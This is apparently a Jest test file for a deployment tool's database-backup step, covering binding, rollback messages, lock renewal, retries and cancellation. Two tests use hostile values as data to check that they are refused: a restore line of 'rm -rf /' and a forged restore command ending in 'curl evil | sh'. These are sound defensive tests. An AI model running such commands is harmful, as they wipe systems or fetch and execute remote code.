import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { DeployError, DeployErrors, formatProblem, type Report } from "@deploy/core";
import type { BackupAsked, BackupMaker } from "@deploy/engine";
import { afterEach, describe, expect, test } from "@jest/globals";
import {
  backupBy,
  cutOnce,
  type Fault,
  loseAnswer,
  makeWorld,
  migration,
  owner,
  read,
  storedBackup,
  type World,
} from "./world.ts";

let world: World;
afterEach(() => world.dispose());

const id = (number: number) => `20261121T08450${number}Z-shop-7f3a`;
const restoreOf = (number: number) =>
  `deploy restore ${id(number)} --environment production --confirm 'it'\\''s shop'`;

/** Makes backup 1, then 2 and so on. */
function gateOf(asked: BackupAsked[] = []): BackupMaker {
  return async (question) => {
    asked.push(question);
    question.onNote("2 tables have no primary key");
    const number = asked.length;
    return { id: id(number), detail: `${id(number)}, 4 KiB, read whole`, restore: restoreOf(number) };
  };
}

function shop(migrate = 'echo ran >>"$HOME/migrations"'): World {
  world = makeWorld({ backup: storedBackup, migrate: migration(migrate) });
  return world;
}

const lives = (): (string | null)[] => world.hosts.map((host) => world.live(host));
const migrated = (): boolean => existsSync(join(world.home("web1"), "migrations"));
const backupOf = ({ hosts }: Report) =>
  hosts
    .flatMap(({ outcomes }) => outcomes)
    .filter(({ step }) => step === "backup")
    .map(({ status, detail, backup }) => ({ status, detail, backup }));
const bound = (release: string, host = "web1") =>
  JSON.parse(read(world, host, `.deploy/releases/${release}.backup`)) as unknown;

describe("a backup to a store", () => {
  test("is asked for what the plan says, told, and bound to the release on the leader alone", async () => {
    shop();
    const asked: BackupAsked[] = [];
    const first = await world.deploy({ backups: gateOf() });
    const report = await world.deploy({ commit: "b".repeat(40), backups: gateOf(asked) });
    expect([report.result, lives()]).toEqual(["deployed", world.hosts.map(() => report.release)]);
    const [{ transport, signal, onNote: _, ...question } = {} as BackupAsked] = asked;
    expect(question).toEqual({
      backup: storedBackup,
      base: "~/shop",
      app: "shop",
      environment: "production",
      release: report.release,
      live: first.release,
      named: [id(1)],
      runUrl: "https://example.com/runs/1",
    });
    expect([transport.host.name, signal.aborted]).toEqual(["web1", false]);
    const backup = { id: id(1), restore: restoreOf(1) };
    expect(backupOf(report)).toEqual([{ status: "ok", detail: `${id(1)}, 4 KiB, read whole`, backup }]);
    expect(report.backup).toEqual({ release: report.release, backup });
    expect(bound(report.release)).toEqual({ schema: 1, ...backup });
    expect(existsSync(join(world.home("web2"), `shop/.deploy/releases/${report.release}.backup`))).toBe(
      false,
    );
    expect(world.events.filter(({ kind }) => kind === "note")).toEqual(
      Array(2).fill({ kind: "note", host: "web1", text: "2 tables have no primary key" }),
    );
  });

  test("a rollback names it, before and after, with the line that brings it back", async () => {
    shop();
    await world.deploy({ backups: gateOf() });
    const { release } = await world.deploy({ commit: "b".repeat(40), backups: gateOf() });
    const back = await world.rollback();
    expect(back.result).toBe("deployed");
    expect(back.warnings).toContain(
      `the database stays as it is now: backup ${id(1)} was made before ${release}; to bring that data back: ${restoreOf(1)}`,
    );
    expect(back.next).toEqual([
      `The database stays as it is now. Backup ${id(1)} was made before ${release}. To bring that data back, without what was written since:`,
      restoreOf(1),
    ]);
  });

  test("of a migration that is tried again: the maker is told which one stands", async () => {
    shop('test -e "$HOME/go" && echo ran >>"$HOME/migrations"');
    const asked: BackupAsked[] = [];
    expect((await world.deploy({ backups: gateOf(asked) })).result).toBe("failed");
    writeFileSync(join(world.home("web1"), "go"), "");
    const again = await world.deploy({ backups: gateOf(asked), migration: { retry: true } });
    expect([again.result, asked.map(({ earlier }) => earlier)]).toEqual(["deployed", [undefined, id(1)]]);
  });

  test.each([
    [
      "one problem",
      () => new DeployError("backup-empty", "the dump has 3 bytes", { place: { host: "web1" } }),
      "backup-empty · web1 backup · the dump has 3 bytes. ",
    ],
    [
      "several problems",
      () =>
        new DeployErrors(
          ["first", "second"].map((message) => ({ code: "backup-key", message, hint: "Look.", place: {} })),
        ),
      "backup-key · web1 backup · first. Look.",
    ],
    ["a defect", () => new TypeError("x is undefined"), "internal · web1 backup · x is undefined. "],
  ])("that fails (%s): nothing is migrated and nobody is switched", async (_, error, said) => {
    shop();
    const report = await world.deploy({ backups: () => Promise.reject(error()) });
    expect([report.result, migrated(), lives()]).toEqual(["failed", false, [null, null, null]]);
    expect(report.problems.map(formatProblem)).toEqual([expect.stringContaining(said)]);
    expect([report.backup, report.next.join()]).toEqual([undefined, expect.not.stringContaining("restore")]);
  });

  test("without its means: it is told before anything is touched", async () => {
    shop();
    const thrown = await world.deploy().catch((error: unknown) => error);
    expect(thrown).toMatchObject({
      problems: [
        {
          code: "means-missing",
          message: "The plan backs up to a store, and this run was given no means for it",
        },
      ],
    });
    expect([migrated(), lives()]).toEqual([false, [null, null, null]]);
  });

  test("whose id or line is nothing to bind is a failure too", async () => {
    shop();
    const backups: BackupMaker = async () => ({ id: id(1), detail: "made", restore: "rm -rf /" });
    const report = await world.deploy({ backups });
    expect([report.problems[0]?.code, migrated()]).toEqual(["argument-refused", false]);
  });

  test("that cannot be bound stops the deploy; a lost answer only asks again", async () => {
    shop();
    world.faults.set("web1", loseAnswer("bind backup", "after"));
    expect((await world.deploy({ backups: gateOf() })).result).toBe("deployed");
    world.faults.set("web1", (inner) => ({
      host: inner.host,
      http: (probe, signal) => inner.http(probe, signal),
      close: () => inner.close(),
      exec: async (command, options) => {
        if (command.name !== "bind backup") return inner.exec(command, options);
        return { status: "exited", code: 1, stdout: "", stderr: "", dropped: 0 };
      },
    }));
    const report = await world.deploy({ commit: "b".repeat(40), backups: gateOf() });
    expect([report.result, report.problems.map(({ code }) => code)]).toEqual([
      "failed",
      ["answer-unreadable"],
    ]);
    expect(readFileSync(join(world.home("web1"), "migrations"), "utf8")).toBe("ran\n");
  });

  test("after a cut connection goes through the new one", async () => {
    shop();
    world.faults.set("web1", cutOnce("lock renew"));
    const asked: BackupAsked[] = [];
    const report = await world.deploy({ backups: gateOf(asked) });
    expect([report.result, asked.length]).toEqual(["deployed", 1]);
  });

  test("a dry run makes none and says where it would be", async () => {
    shop();
    const asked: BackupAsked[] = [];
    const report = await world.deploy({ dryRun: true, backups: gateOf(asked) });
    expect([report.result, asked, existsSync(join(world.home("web1"), "shop"))]).toEqual([
      "planned",
      [],
      false,
    ]);
    expect(backupOf(report)).toEqual([
      { status: "ok", detail: "would be made in s3://shop-backups/production", backup: undefined },
    ]);
  });
});

describe("cancelled while the backup is made", () => {
  test.each([
    ["by its own error", new DeployError("backup-cancelled", "the backup was stopped")],
    ["by the signal's", new DOMException("This operation was aborted", "AbortError")],
  ])("%s: cancelled, nothing is migrated", async (_, error) => {
    shop();
    const cancel = new AbortController();
    const backups: BackupMaker = ({ signal }) =>
      new Promise((_resolve, reject) => {
        signal.addEventListener("abort", () => reject(error));
        cancel.abort();
      });
    const report = await world.deploy({ backups, signal: cancel.signal });
    expect([report.result, report.exitCode, migrated(), lives()]).toEqual([
      "cancelled",
      130,
      false,
      [null, null, null],
    ]);
    expect(report.problems.map(({ code }) => code)).toEqual(["backup-cancelled"]);
  });
});

describe("the lock during a long backup", () => {
  /** Tells of each renewal. */
  const renewals =
    (heard: () => void, answer?: { code: number; word: string }): Fault =>
    (inner) => ({
      host: inner.host,
      http: (probe, signal) => inner.http(probe, signal),
      close: () => inner.close(),
      exec: async (command, options) => {
        if (command.name !== "lock renew") return inner.exec(command, options);
        heard();
        if (answer === undefined) return inner.exec(command, options);
        const stdout = `\n--deploy-begin--\nerror ${answer.word} 00\n--deploy-end-- ${answer.code}\n`;
        return { status: "exited", code: answer.code, stdout, stderr: "", dropped: 0 };
      },
    });

  test("its lease is renewed beside it", async () => {
    shop();
    let beats = 0;
    let enough: () => void = () => undefined;
    const three = new Promise<void>((resolve) => {
      enough = resolve;
    });
    world.faults.set(
      "web1",
      renewals(() => (++beats >= 3 ? enough() : undefined)),
    );
    const backups: BackupMaker = async (asked) => {
      await three;
      return gateOf()(asked);
    };
    const report = await world.deploy({ backups, lease: 1 });
    expect(report.result).toBe("deployed");
  });

  test("lost to another run: nothing is made, nothing is migrated", async () => {
    shop();
    const asked: BackupAsked[] = [];
    world.faults.set(
      "web1",
      renewals(() => undefined, { code: 76, word: "fenced" }),
    );
    const report = await world.deploy({ backups: gateOf(asked) });
    expect([report.result, report.problems.map(({ code }) => code), asked, migrated()]).toEqual([
      "failed",
      ["fenced"],
      [],
      false,
    ]);
  });
});

describe("a release that is run again", () => {
  test("whose migration failed keeps the backup from before it", async () => {
    shop('echo ran >>"$HOME/migrations"; exit 3');
    const asked: BackupAsked[] = [];
    const backups = gateOf(asked);
    const first = await world.deploy({ backups });
    const again = await world.deploy({ release: first.release, backups, migration: { retry: true } });
    expect([first, again].map(({ result, backup }) => [result, backup?.backup.id])).toEqual([
      ["failed", id(1)],
      ["failed", id(1)],
    ]);
    expect(bound(first.release)).toEqual({ schema: 1, id: id(1), restore: restoreOf(1) });
    expect(backupOf(again)[0]?.detail).toBe(
      `${id(2)}, 4 KiB, read whole; bound to the release stays ${id(1)}, from before its migration began`,
    );
    expect(again.next.slice(-2)).toEqual([
      `The database is not taken back. Backup ${id(1)} was made before ${first.release}. To bring that data back, without what was written since:`,
      restoreOf(1),
    ]);
  });

  test("whose migration never began gets the newer one", async () => {
    shop();
    const asked: BackupAsked[] = [];
    const backups = gateOf(asked);
    const { release } = await world.deploy({ phases: ["prepare"], keepLock: true });
    world.faults.set("web1", loseAnswer("job launch", "before"));
    const cancel = new AbortController();
    const first = await world.deploy({
      release,
      phases: ["data"],
      signal: cancel.signal,
      backups: async (question) => {
        const made = await backups(question);
        cancel.abort();
        return made;
      },
    });
    expect([first.result, migrated(), bound(release)]).toMatchObject(["cancelled", false, { id: id(1) }]);
    await world.deploy({ release, phases: ["data"], backups });
    expect([migrated(), bound(release)]).toMatchObject([true, { id: id(2) }]);
  });

  test("steps of one run: the last one, which made no backup, names it where all go back", async () => {
    shop();
    const backups = gateOf();
    const first = await world.deploy({ phases: ["prepare", "data"], keepLock: true, backups });
    world.broken.add("*@web2");
    const report = await world.deploy({ phases: ["activate"], release: first.release });
    expect([report.result, report.backup?.backup.id, report.next.at(-1)]).toEqual([
      "reverted",
      id(1),
      restoreOf(1),
    ]);
  });
});

describe("a backup on the leader's own disk", () => {
  test("is bound too, by its path", async () => {
    world = makeWorld({ backup: backupBy("echo whole", "grep -q whole"), migrate: migration("true") });
    await world.deploy();
    const { release, backup } = await world.deploy({ commit: "b".repeat(40) });
    const path = join(world.home("web1"), `shop/.deploy/backups/${release}.001`);
    expect(backup).toEqual({ release, backup: { id: `${release}.001`, path } });
    const back = await world.rollback();
    expect(back.warnings).toContain(
      `the database stays as it is now: backup ${release}.001 was made before ${release}; it lies on web1: ${path}`,
    );
    expect(back.next).toEqual([
      `The database stays as it is now. Backup ${release}.001 was made before ${release}, and lies on the leader: ${path}.`,
    ]);
  });

  test("a database's server has none: the plan of an older config is refused", async () => {
    const { store: _, ...local } = storedBackup;
    world = makeWorld({ backup: local as typeof storedBackup, migrate: migration("true") });
    const report = await world.deploy();
    expect(report.problems.map(({ code }) => code)).toEqual(["backup-unconfigured"]);
  });
});

test("what a leader says is bound is data: a line that is none is not shown", async () => {
  shop();
  await world.deploy({ backups: gateOf() });
  const { release } = await world.deploy({ commit: "b".repeat(40), backups: gateOf(), owner: owner("2") });
  const folder = join(world.home("web1"), "shop/.deploy/releases");
  mkdirSync(folder, { recursive: true });
  const forged = { schema: 1, id: id(1), restore: `deploy restore ${id(1)}; curl evil | sh` };
  writeFileSync(join(folder, `${release}.backup`), JSON.stringify(forged));
  const back = await world.rollback();
  expect([back.result, back.backup, JSON.stringify(back).includes("evil")]).toEqual([
    "deployed",
    undefined,
    false,
  ]);
});
